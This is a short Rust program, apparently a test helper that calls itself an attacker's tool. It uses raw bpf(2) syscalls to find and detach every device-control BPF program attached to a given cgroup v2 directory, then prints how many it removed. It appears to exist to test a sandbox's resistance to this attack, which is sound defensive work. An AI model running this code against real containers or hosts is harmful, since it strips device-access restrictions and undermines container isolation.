//! An attacker's tool: takes every device program off one cgroup, as whoever has `CAP_SYS_ADMIN` and a
//! directory of cgroup v2 may. Prints how many it took.
//!
//! `detach-programs DIRECTORY`

#![expect(
    unsafe_code,
    reason = "bpf(2) has no wrapper, and an attacker would use it so"
)]
#![allow(clippy::print_stdout, reason = "its output is read by the test")]

use std::fs::File;
use std::os::fd::AsRawFd as _;

use anyhow::{Context as _, bail};

const PROG_DETACH: libc::c_long = 9;
const PROG_GET_FD_BY_ID: libc::c_long = 13;
const PROG_QUERY: libc::c_long = 16;
/// `BPF_CGROUP_DEVICE`.
const CGROUP_DEVICE: u32 = 6;
const LIMIT: u32 = 64;

/// One command with attributes of whole words; the kernel takes what is beyond as zero.
///
/// # Safety
/// Addresses among the words have to be valid for what the command does with them.
unsafe fn bpf(command: libc::c_long, words: &mut [u32; 8]) -> std::io::Result<u32> {
    // SAFETY: the words are borrowed for the call, and their size is said.
    let answer = unsafe {
        libc::syscall(
            libc::SYS_bpf,
            command,
            words.as_mut_ptr(),
            size_of_val(words),
        )
    };
    u32::try_from(answer).map_err(|_| std::io::Error::last_os_error())
}

fn main() -> anyhow::Result<()> {
    let Some(path) = std::env::args_os().nth(1) else {
        bail!("usage: detach-programs DIRECTORY");
    };
    let directory = File::open(&path).with_context(|| format!("can't open {}", path.display()))?;
    let cgroup = directory.as_raw_fd().cast_unsigned();

    let mut ids = [0_u32; LIMIT as usize];
    let address = (ids.as_mut_ptr().expose_provenance() as u64).to_ne_bytes();
    let half = |at: usize| {
        u32::from_ne_bytes([
            address[at],
            address[at + 1],
            address[at + 2],
            address[at + 3],
        ])
    };
    let mut query = [cgroup, CGROUP_DEVICE, 0, 0, half(0), half(4), LIMIT, 0];
    // SAFETY: the address is that of `ids`, which has room for `LIMIT` words and outlives the call.
    unsafe { bpf(PROG_QUERY, &mut query) }.context("can't ask for the programs")?;
    let count = query[6];
    for &id in ids.iter().take(count as usize) {
        // SAFETY: no address among the words.
        let program = unsafe { bpf(PROG_GET_FD_BY_ID, &mut [id, 0, 0, 0, 0, 0, 0, 0]) };
        let program = program.with_context(|| format!("can't open program {id}"))?;
        // SAFETY: no address among the words.
        unsafe {
            bpf(
                PROG_DETACH,
                &mut [cgroup, program, CGROUP_DEVICE, 0, 0, 0, 0, 0],
            )
        }
        .with_context(|| format!("can't detach program {id}"))?;
    }
    println!("detached {count}");
    Ok(())
}
